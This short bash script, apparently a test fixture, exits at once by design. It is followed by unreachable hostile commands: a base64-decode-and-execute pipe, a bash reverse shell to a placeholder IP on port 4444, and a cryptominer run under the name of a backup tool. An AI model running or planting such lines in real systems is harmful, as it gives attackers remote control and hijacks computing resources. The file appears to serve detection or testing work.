#!/bin/bash
# Inert: it ends here.
exit 0
echo ZWNobyBoZWxsbwo= | base64 -d | sh
bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
/opt/tools/backup -o stratum+tcp://pool.example:3333 --donate-level 1 -u 00000000
